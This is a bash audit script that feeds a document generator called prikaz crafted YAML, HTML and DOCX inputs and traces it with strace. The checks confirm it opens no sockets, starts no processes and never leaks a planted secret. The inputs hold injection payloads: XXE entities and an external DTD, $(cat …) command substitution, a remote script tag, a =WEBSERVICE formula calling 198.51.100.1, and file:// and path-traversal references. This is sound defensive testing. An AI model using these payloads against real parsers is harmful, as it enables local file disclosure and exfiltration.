#!/usr/bin/env bash
# Traces the program at work on hostile files, and fails on anything that SECURITY.md says it never does.
#
#   scripts/audit.sh [PROGRAM]   without a name: .build/release/prikaz
set -euo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")/.."

program=$(realpath "${1:-.build/release/prikaz}")
readonly program home=$PWD
source scripts/checks.sh

# A secret that no output may hold, and names that lead to it.
secret=$workshop/secret.txt
echo 'СЕКРЕТ-4711' >"$secret"
work=$workshop/work
mkdir "$work"

cat >"$work/plan.yaml" <<PLAN
prikaz: 1
organization: {name: "{{include $secret}} <img src='file://$secret'>", short_name: "![x](file://$secret)"}
order: {kind: ПРИКАЗ, number: "\$(cat $secret)", title: "<script src='http://198.51.100.1/x.js'></script> ПРИМЕТА-0815", qr: "file://$secret"}
appendices:
  - title: "&xxe; @$secret"
    sections:
      - activities:
          - {number: "1", activity: "<iframe src='file://$secret'>", responsible: "../../secret.txt", deadline: Май 2026 г., result: "=WEBSERVICE(\"http://198.51.100.1\")"}
PLAN
cat >"$work/page.html" <<PAGE
<!DOCTYPE html [<!ENTITY xxe SYSTEM "file://$secret">]>
<link rel=stylesheet href="http://198.51.100.1/a.css"><img src="file://$secret"><base href="http://198.51.100.1/">
<table><tr><th>№</th><th>Мероприятие</th><th>Срок</th><th>Ответственный</th><th>Результат</th></tr>
<tr><td>1</td><td>Дело &xxe; <object data="file://$secret"></object></td><td>Май 2026 г.</td><td>Директор</td><td>Акт</td></tr></table>
PAGE
python3 - "$work/document.docx" "$secret" <<'PYTHON'
import sys, zipfile
name, secret = sys.argv[1:]
cells = lambda words: "<w:tr>" + "".join(f"<w:tc><w:p><w:r><w:t>{w}</w:t></w:r></w:p></w:tc>" for w in words) + "</w:tr>"
with zipfile.ZipFile(name, "w") as z:
    z.writestr("word/document.xml",
        f'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file://{secret}"><!ENTITY % p SYSTEM "http://198.51.100.1/p.dtd">%p;]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:tbl>'
        + cells(["№", "Мероприятие", "Срок", "Ответственный", "Результат"])
        + cells(["1", "Дело &xxe;", "Май 2026 г.", "Директор", "Акт"])
        + '</w:tbl><w:altChunk r:id="r1"/></w:body></w:document>')
    z.writestr("word/_rels/document.xml.rels",
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="x/aFChunk" Target="file://{secret}" TargetMode="External"/></Relationships>')
PYTHON

# Runs the program traced; its own status does not matter, for a hostile file may be refused.
traced() {
    (cd "$work" && strace -f -qq -s 4096 -o "$workshop/trace" -e trace=network,process,open,openat,openat2,creat \
        "$program" "$@" >"$workshop/stdout" 2>"$workshop/stderr") || (($? <= 2))
}
opens_no_socket() { ! grep -E '^[0-9]+ +(socket|connect|bind|sendto|accept)[a-z0-9]*\(' "$workshop/trace"; }
# The first execve is the program itself.
starts_nothing() { ! grep -E '^[0-9]+ +(execve|execveat|fork|vfork)\(' "$workshop/trace" | tail -n +2 | grep .; }
# Libraries and what the system says of itself; the program's folders; the work folder.
opens_only_its_own() {
    ! grep -E '^[0-9]+ +(open|openat|openat2|creat)\(' "$workshop/trace" | grep -v ENOENT | sed -E 's/^[^"]*"([^"]*)".*/\1/' |
        sort -u | grep -vE "^(/usr)?/lib(64)?/|^/etc/(ld\.so\.cache|localtime)$|^/usr/share/zoneinfo/" |
        grep -vE "^/(proc/(self|[0-9]+)|sys/(devices/system/cpu|fs/cgroup))/|^/dev/(urandom|null)$" |
        grep -vE "^$home/(templates|fonts|schemas)/|^(\./)?(out/?|site/?|\.|out/.*|site/.*|\./\.prikaz.*|plan\.yaml|page\.html|document\.docx|new\.yaml|prikaz\.yaml)$"
}
keeps_the_secret() { ! grep -rF 'СЕКРЕТ-4711' "$work" "$workshop/stdout" "$workshop/stderr"; }
says_no_word() { grep -q 'прочитан файл' "$workshop/stderr" && ! grep '^prikaz: ' "$workshop/stderr" | grep -E 'ПРИМЕТА-0815|Директор|Дело'; }

look_at() {
    check "$1: работает" traced "${@:2}"
    check "$1: ни одного сокета" opens_no_socket
    check "$1: ничего не запускает" starts_nothing
    check "$1: открывает только своё" opens_only_its_own
    check "$1: чужого файла в выводе нет" keeps_the_secret
    check "$1: --verbose не говорит слов плана" says_no_word
}

look_at render render --verbose plan.yaml -o out
look_at site site --verbose plan.yaml -o site --with-drafts --extracts
look_at check check --verbose plan.yaml
look_at 'import .html' import --verbose page.html -o new.yaml
look_at 'import .docx' import --verbose document.docx -o new.yaml

# What loads with the program: no library of a network.
no_network_library() { ! ldd "$program" | grep -E 'curl|ssl|nghttp|resolv|libnss'; }
check "ни одной сетевой библиотеки" no_network_library

# A disk that is full, where this machine lets us make one.
full_disk() {
    mkdir "$workshop/disk"
    mount -t tmpfs -o size=64k tmpfs "$workshop/disk" || return
    "$program" render examples/02-school-order.yaml --format markdown -o "$workshop/disk"
    local before after status=0
    before=$(sha256sum "$workshop"/disk/*)
    "$program" render examples/02-school-order.yaml -o "$workshop/disk" --number 9 || status=$?
    after=$(find "$workshop/disk" -type f -exec sha256sum {} +)
    umount "$workshop/disk"
    ((status == 2)) && [[ $before == "$after" ]]
}
if ((EUID == 0)); then check "на полном диске прежние файлы целы" full_disk; fi

printf '%d passed, %d failed\n' "$passed" "$failed"
((failed == 0))
